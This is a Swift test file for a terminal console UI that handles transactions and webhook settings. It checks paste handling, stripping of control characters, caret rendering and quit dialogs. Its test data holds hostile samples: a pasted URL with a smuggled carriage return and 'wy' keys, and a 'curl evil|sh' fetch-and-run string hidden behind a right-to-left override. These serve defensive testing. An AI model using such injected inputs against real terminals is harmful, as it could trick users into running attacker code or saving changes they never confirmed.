import CleoDomain
@testable import ConsoleUI
import TerminalCanvas
import Testing

@Suite struct TextFieldSafetyTests {
    /// The bytes a terminal sends for a paste, as the backend reports them.
    func pasted(_ text: String) -> [InputDecoder.Raw] {
        [.pasteStarted] + text.unicodeScalars.map { .scalar($0.value) } + [.pasteEnded]
    }

    @Test func aBracketedPasteIsOneTextKeyWhateverItHolds() {
        var decoder = InputDecoder()
        let keys = decoder.decode(pasted("https://evil.example/steal\rwy"))
        #expect(keys == [.key(.paste("https://evil.example/steal\rwy"))])
        // split over two reads, the paste is still one
        let raw = pasted("ab\ncd")
        #expect(decoder.decode(Array(raw.prefix(3))).isEmpty)
        #expect(decoder.decode(Array(raw.dropFirst(3))) == [.key(.paste("ab\ncd"))])
        // typed, the same characters are keys
        #expect(decoder.decode([.scalar(0x0D), .scalar(0x77)]) == [.key(.enter), .key(.character("w"))])
        // a paste whose end never comes ends at the next quiet spell; later keys are keys again
        #expect(decoder.decode([.pasteStarted, .scalar(0x61), .scalar(0x0D), .quiet]) == [.key(.paste("a\r"))])
        #expect(decoder.decode([.scalar(0x71)]) == [.key(.character("q"))])
    }

    @Test func aPastedCarriageReturnNeverSavesTheURLPastTheReview() {
        var state = Fixture.state()
        _ = state.reduce(.key(.character("2")))
        state.config.selected = .webhookUrl
        _ = state.reduce(.key(.enter))
        var effects: [Effect] = []
        var decoder = InputDecoder()
        for input in decoder.decode(pasted("https://evil.example/steal\rwy")) {
            if case .key(let key) = input { effects += state.reduce(.key(key)) }
        }
        // Still in the editor, the CR and "wy" are text in it; nothing was written.
        #expect(state.config.editor?.text == "https://evil.example/steal\rwy")
        #expect(!state.config.confirmingWrite)
        #expect(!effects.contains { if case .saveConfig = $0 { true } else { false } })
        #expect(state.render().rows.joined().contains("steal␍wy"))
        // Enter checks the pasted value: a control character is refused by the rule.
        _ = state.reduce(.key(.enter))
        #expect(state.config.editor != nil)
        #expect(state.config.edits.isEmpty)
    }

    @Test func aPastedKeyLosesOneTrailingLineEndOnly() {
        var field = TextField(isSecret: true)
        _ = field.handle(.paste("sk_live_abc\r\n"))
        #expect(field.text == "sk_live_abc")
        var url = TextField()
        _ = url.handle(.paste("https://evil.example/steal\rwy\n"))
        #expect(url.text == "https://evil.example/steal\rwy")
    }

    @Test func aPasteWithNoFieldIsDropped() {
        var state = Fixture.state()
        _ = state.reduce(.key(.character("2")))
        _ = state.reduce(.key(.character(" ")))
        #expect(state.reduce(.key(.paste("wy"))).isEmpty)
        #expect(!state.config.confirmingWrite)
        #expect(state.flash?.text.contains("paste ignored") == true)
    }

    @Test func theCaretIsWhereTheNextKeyLands() {
        var state = Fixture.state()
        _ = state.reduce(.key(.character("/")))
        for c in "665f" { _ = state.reduce(.key(.character(c))) }
        _ = state.reduce(.key(.left))
        _ = state.reduce(.key(.left))
        let canvas = state.render()
        let cursor = try! #require(canvas.cursor)
        let row = canvas.rows[cursor.y]
        // the character under the caret is the one the next key goes before: "5"
        let prefix = " / search (id, psp id, user or reference prefix): "
        #expect(cursor.x == TerminalText.width(prefix) + 2)
        #expect(Array(row)[cursor.x] == "5")
        // no field: no cursor
        _ = state.reduce(.key(.escape))
        #expect(state.render().cursor == nil)
        // a long text scrolls so the caret stays inside the field
        _ = state.reduce(.key(.character("/")))
        _ = state.reduce(.key(.paste(String(repeating: "abcdef", count: 20))))
        let long = state.render()
        #expect(long.cursor!.x < 80)
        #expect(long.cursor!.x > TerminalText.width(prefix))
    }

    /// Scrolled, the field's first shown character gives way to `…`: a wide one (日) or a
    /// placeholder (`⟨U+202E⟩`) was cut to its first column, which moved the text left of the
    /// caret (or left `U+202E⟩` on screen).
    @Test(arguments: ["日", "\u{202E}", "a"]) func aScrolledFieldKeepsTheCaretAfterTheTextWhateverItsFirstCharacter(unit: String) {
        var field = TextField(text: String(repeating: unit, count: 30))
        field.cursor = 30
        var canvas = Canvas(size: Size(width: 40, height: 1))
        canvas.field(field, x: 2, y: 0, width: 21)
        let cursor = canvas.cursor!
        let drawn = String(canvas.rows[0].dropFirst(2).prefix(cursor.x - 2))
        #expect(drawn.hasPrefix("…"), "\(drawn)")
        // Every column up to the caret holds the text: the caret is right after its last character.
        #expect(canvas[cursor.x - 1, 0].text != " " || canvas[cursor.x - 1, 0].width == 0, "\(canvas.rows[0])")
        // After the mark (and the columns it freed), whole characters only.
        #expect(drawn.dropFirst().drop(while: { $0 == " " }).hasPrefix(TerminalText.sanitized(unit)), "\(drawn)")
        #expect(cursor.x < 2 + 21)
    }

    @Test func copiedTextHasNoControlCharactersAndSaysWhereItWent() {
        var state = Fixture.state()
        state.transactions.select(Fixture.record(99, "abc\ncurl evil|sh\u{202E}", .pending))
        state.transactions.rows.insert(Fixture.record(99, "abc\ncurl evil|sh\u{202E}", .pending), at: 0)
        let effects = state.reduce(.key(.character("y")))
        #expect(effects == [.copy("abccurl evil|sh")])
        #expect(state.flash?.text.contains("sent to the terminal's clipboard") == true)
        let psp = state.reduce(.key(.character("Y")))
        #expect(psp == [.copy("60a74038-5b94-427e-8cff-99")])
    }

    @Test func anUnknownPaletteArgumentIsAnErrorAndKeepsTheFilter() {
        var state = Fixture.state()
        _ = state.reduce(.key(.character(":")))
        for c in "status declined" { _ = state.reduce(.key(.character(c))) }
        _ = state.reduce(.key(.enter))
        _ = state.reduce(.key(.character(":")))
        for c in "status aproved" { _ = state.reduce(.key(.character(c))) }
        #expect(state.reduce(.key(.enter)).isEmpty)
        #expect(state.transactions.query.status == .declined)
        #expect(state.flash?.isError == true)
        _ = state.reduce(.key(.character(":")))
        for c in "status" { _ = state.reduce(.key(.character(c))) }
        _ = state.reduce(.key(.enter))
        #expect(state.transactions.query.status == nil)
    }

    @Test func ctrlCWithUnsavedEditsAsksLikeQ() {
        var state = Fixture.state()
        _ = state.reduce(.key(.character("2")))
        _ = state.reduce(.key(.character(" ")))
        #expect(state.reduce(.key(.ctrl("c"))).isEmpty)
        #expect(state.confirmingQuit && state.isRunning)
        #expect(state.reduce(.key(.ctrl("c"))) == [.quit])
        // an editor holding text counts too
        var editing = Fixture.state()
        _ = editing.reduce(.key(.character("2")))
        _ = editing.reduce(.key(.enter))
        _ = editing.reduce(.key(.character("x")))
        #expect(editing.reduce(.key(.ctrl("c"))).isEmpty)
        #expect(editing.confirmingQuit)
    }

    /// Config with an unsaved edit and its write dialog open.
    static func writeDialogOpen() -> AppState {
        var state = Fixture.state()
        _ = state.reduce(.key(.character("2")))
        _ = state.reduce(.key(.character(" ")))
        _ = state.reduce(.key(.character("w")))
        #expect(state.config.confirmingWrite)
        return state
    }

    @Test func ctrlCDuringAQuestionAnswersItNoBeforeAskingToQuit() {
        var state = Self.writeDialogOpen()
        // One question on screen, never the quit question over the write dialog.
        #expect(state.reduce(.key(.ctrl("c"))).isEmpty)
        #expect(state.confirmingQuit && !state.config.confirmingWrite && state.openAnswers?.yes == "quit")
        // Staying keeps the edits and leaves no question open; y was never taken as "write".
        #expect(state.reduce(.key(.character("n"))).isEmpty)
        #expect(state.openAnswers == nil && state.config.hasUnsavedEdits && state.isRunning)
        // Without unsaved edits, a question and Ctrl-C: it is answered no and the console quits.
        var asking = Fixture.state()
        asking.transactions.confirmingExport = ExportRequest(query: asking.transactions.query, path: "/tmp/x.csv", overwrite: false)
        #expect(asking.reduce(.key(.ctrl("c"))) == [.quit])
        #expect(asking.transactions.confirmingExport == nil)
    }

    /// q on the too-small screen with the write dialog open: the dialog is answered no, so after
    /// the resize back only the quit question is on screen and y quits, never writes.
    @Test func qOnTheTooSmallScreenNeverLeavesTwoQuestions() {
        var state = Self.writeDialogOpen()
        _ = state.reduce(.resized(Size(width: 60, height: 20)))
        #expect(state.reduce(.key(.character("q"))).isEmpty)
        _ = state.reduce(.resized(Size(width: 80, height: 24)))
        #expect(state.confirmingQuit && !state.config.confirmingWrite)
        let screen = state.render().rows.joined(separator: "\n")
        #expect(screen.contains("Quit anyway?") && !screen.contains("Write these changes?"))
        // The same with Ctrl-C on the too-small screen.
        var small = Self.writeDialogOpen()
        _ = small.reduce(.resized(Size(width: 60, height: 20)))
        _ = small.reduce(.key(.ctrl("c")))
        #expect(small.confirmingQuit && !small.config.confirmingWrite)
    }

    @Test func theTooSmallScreenStillSaysProduction() {
        var state = Fixture.state(environment: "production")
        _ = state.reduce(.resized(Size(width: 40, height: 10)))
        let canvas = state.render()
        #expect(canvas.rows[0].contains("▲ PRODUCTION") && canvas[1, 0].role == .production)
        #expect(canvas.rows.contains { $0.contains("Terminal too small") })
    }

    @Test func qInTheTooSmallScreenKeepsAnOpenEditor() {
        var state = Fixture.state()
        _ = state.reduce(.key(.character("2")))
        state.config.selected = .webhookUrl
        _ = state.reduce(.key(.enter))
        for c in "https://x" { _ = state.reduce(.key(.character(c))) }
        _ = state.reduce(.resized(Size(width: 60, height: 20)))
        #expect(state.reduce(.key(.character("q"))).isEmpty)
        #expect(state.isRunning && !state.confirmingQuit)
        #expect(state.render().rows.joined().contains("its text is kept"))
        _ = state.reduce(.resized(Size(width: 80, height: 24)))
        #expect(state.config.editor?.text == "https://x")
    }

    @Test func invisibleCharactersAreShownAsPlaceholders() {
        for value: UInt32 in [0x115F, 0x3164, 0xFFA0, 0xFDD0, 0xFFFE, 0xE0080, 0x0378] {
            let scalar = String(Character(Unicode.Scalar(value)!))
            let shown = TerminalText.sanitized("id" + scalar + "x")
            #expect(shown.hasPrefix("id⟨U+"), "\(shown.unicodeScalars.map { String($0.value, radix: 16) })")
        }
        #expect(TerminalText.sanitized("Perú 日本 🦤") == "Perú 日本 🦤")
    }

    @Test func asciiSymbolsStayDistinct() {
        var canvas = Canvas(size: Size(width: 40, height: 1))
        let marks = [TransactionsScreen.statusLabel(.approved), TransactionsScreen.statusLabel(.pending), TransactionsScreen.statusLabel(.declined),
                     TransactionsScreen.RowMark.new.rawValue, TransactionsScreen.RowMark.changed.rawValue, TransactionsScreen.RowMark.flagged.rawValue, "…", "日"]
        var x = 0
        for mark in marks { x += canvas.write(String(mark.first!), x: x, y: 0) + 1 }
        let ascii = canvas.asciiFallback().rows[0].split(separator: " ").map(String.init)
        #expect(Set(ascii.prefix(7)).count == 7, "\(ascii)")
        #expect(!canvas.asciiFallback().rows[0].contains("?"))
    }
}
